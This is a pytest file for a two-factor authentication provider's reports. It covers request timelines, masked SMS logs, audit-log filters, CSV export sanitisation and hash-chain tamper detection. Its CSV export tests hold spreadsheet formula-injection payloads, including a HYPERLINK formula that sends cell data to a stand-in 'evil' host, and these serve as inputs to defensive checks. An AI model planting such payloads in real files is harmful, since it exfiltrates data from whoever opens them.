"""Request lists and timelines, the masked message log, the audit log, its export and chain."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import update

from tests.provider.conftest import Authy
from tests.provider.reports.seeding import UK_NATIONAL, Seeded
from twofa.provider.reports.csv_export import safe_cell
from twofa.provider.reports.model import AuditFilter, MessageFilter, RequestFilter
from twofa.provider.services import Services
from twofa.storage.database import utcnow
from twofa.storage.tables import audit_log


def test_requests_filter_and_page(seeded: Seeded, services: Services) -> None:
    day = seeded.day
    reports = services.reports
    everything = reports.requests(RequestFilter(app_id=seeded.app_id))
    assert [r.uuid for r in everything.rows] == [day.short, day.pending, day.denied, day.approved]
    assert everything.next_before is None

    approved = reports.requests(RequestFilter(status="approved"))
    assert [(r.uuid, r.device) for r in approved.rows] == [(day.approved, "Bob's phone")]
    assert reports.requests(RequestFilter(user_id=day.alice.id)).rows == ()
    assert len(reports.requests(RequestFilter(user_id=day.bob.id)).rows) == 4
    assert reports.requests(RequestFilter(app_id=seeded.app_id + 1000)).rows == ()
    later = utcnow() + timedelta(minutes=1)
    assert reports.requests(RequestFilter(since=later)).rows == ()
    assert len(reports.requests(RequestFilter(until=later)).rows) == 4

    first = reports.requests(RequestFilter(limit=3))
    assert len(first.rows) == 3 and first.next_before == first.rows[-1].id
    rest = reports.requests(RequestFilter(limit=3, before_id=first.next_before))
    assert [r.uuid for r in rest.rows] == [day.approved] and rest.next_before is None


def test_timeline_tells_the_story(seeded: Seeded, services: Services) -> None:
    day = seeded.day
    approved = services.reports.timeline(day.approved)
    assert approved is not None
    steps = [(e.what, e.detail) for e in approved.events]
    assert steps[0] == ("Request created", "Log in to the shop?")
    assert ("Approved", "by Bob's phone") in steps
    assert steps[-1] == ("Callback delivered", "1 attempt")
    (callback,) = approved.deliveries
    assert callback.url == seeded.callback_url
    assert (callback.status, callback.attempts, callback.last_error) == ("delivered", 1, None)

    denied = services.reports.timeline(day.denied)
    assert denied is not None
    (failing,) = denied.deliveries
    assert (failing.status, failing.attempts, failing.last_error) == ("pending", 1, "HTTP 500")
    retry = next(e for e in denied.events if e.what == "Callback retrying")
    assert "HTTP 500" in retry.detail and retry.tone == "warn"
    assert any(e.what == "Denied" and e.tone == "bad" for e in denied.events)
    assert services.reports.timeline("not-a-request") is None


def test_a_wrong_number_shows_in_the_timeline(authy: Authy, services: Services) -> None:
    user = authy.new_user()
    phone = authy.enrol(user, name="Careless phone")
    made = authy.push_json(user, "Match?", number_matching=True)
    wrong_number = made["number"] % 90 + 10  # never the number shown
    assert phone.approve(made["uuid"], number=wrong_number) == "denied"
    timeline = services.reports.timeline(made["uuid"])
    assert timeline is not None
    assert ("Wrong number typed", "on Careless phone") in [
        (e.what, e.detail) for e in timeline.events
    ]


def test_messages_never_show_a_code_or_a_whole_number(seeded: Seeded, services: Services) -> None:
    day = seeded.day
    page = services.reports.messages(MessageFilter(limit=500))
    assert page.rows, "the day texted people"
    shown = repr([(m.to, m.body, m.error) for m in page.rows])
    texted = services.messaging.list()
    for message in texted:
        for code in re.findall(r"\d{6,}", message.body):
            assert code not in shown
        assert message.to not in shown
    assert day.alice_code not in shown and "+447700900123" not in shown
    alice = services.reports.messages(MessageFilter(to=day.alice.phone))
    assert [m.to for m in alice.rows] == ["+1 ••••••••" + day.alice.phone[-2:]] * len(alice.rows)
    assert all("•••••••" in m.body for m in alice.rows if "code" in m.body)
    uk = services.reports.messages(MessageFilter(to="+44" + UK_NATIONAL.replace(" ", "")))
    assert len(uk.rows) == 2 and {m.country for m in uk.rows} == {"GB"}
    assert services.reports.messages(MessageFilter(channel="call")).rows == ()


def test_audit_filters(seeded: Seeded, services: Services) -> None:
    day = seeded.day
    reports = services.reports
    passed = reports.audit(AuditFilter(event="verification.passed"))
    assert {r.data["channel"] for r in passed.rows} == {"sms", "app"}
    verify = reports.audit(AuditFilter(event="verify."))
    assert {r.event for r in verify.rows} >= {"verify.check.failed", "verify.verification.approved"}
    assert all(r.event.startswith("verify.") for r in verify.rows)
    bob = reports.audit(AuditFilter(subject=f"user:{day.bob.id}"))
    assert {r.event for r in bob.rows} >= {"request.created", "request.answered"}
    assert all(r.subject == f"user:{day.bob.id}" for r in bob.rows)
    devices = reports.audit(AuditFilter(subject="device:*"))
    assert devices.rows and all(r.subject.startswith("device:") for r in devices.rows)
    assert reports.audit(AuditFilter(app_id=seeded.app_id + 1000)).rows == ()
    assert reports.audit(AuditFilter(since=utcnow() + timedelta(minutes=1))).rows == ()
    # a literal "%" or "_" in a prefix matches itself only
    assert reports.audit(AuditFilter(event="%")).rows == ()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_defuses_formulas(start: str) -> None:
    assert safe_cell(f'{start}HYPERLINK("http://evil")') == f'\'{start}HYPERLINK("http://evil")'
    assert safe_cell(f"a{start}b") == f"a{start}b"


def test_csv_export_is_safe_and_complete(authy: Authy, services: Services) -> None:
    user = authy.new_user()
    attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    services.audit.record(
        "console.note", app_id=authy.app_id, subject=attack, actor="@SUM(1+1)", data={"x": "-1"}
    )
    services.audit.flush_all()
    lines = "".join(services.reports.audit_export(AuditFilter()))
    rows = list(csv.reader(io.StringIO(lines)))
    assert rows[0] == [
        "seq",
        "created_at",
        "event",
        "app_id",
        "subject",
        "actor",
        "data",
        "prev_hash",
        "hash",
    ]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    note = next(r for r in rows if r[2] == "console.note")
    assert (note[4], note[5]) == ("'" + attack, "'@SUM(1+1)")
    created = next(r for r in rows if r[2] == "user.created")
    assert created[4] == f"user:{user.id}"
    only = list(
        csv.reader(
            io.StringIO("".join(services.reports.audit_export(AuditFilter(event="console.note"))))
        )
    )
    assert len(only) == 2


def test_chain_verification_finds_an_edit(authy: Authy, services: Services) -> None:
    authy.new_user()
    authy.new_user()
    services.audit.chain_all()
    assert services.reports.chain().ok
    with services.db.write() as conn:  # an intruder edits a recorded entry
        conn.execute(update(audit_log).where(audit_log.c.seq == 1).values(subject="user:999"))
    cached = services.reports.chain(max_age=3600)
    assert cached.ok, "a recent result is reused within max_age"
    fresh = services.reports.chain()
    assert not fresh.ok and fresh.broken_at == 1 and "altered" in fresh.reason
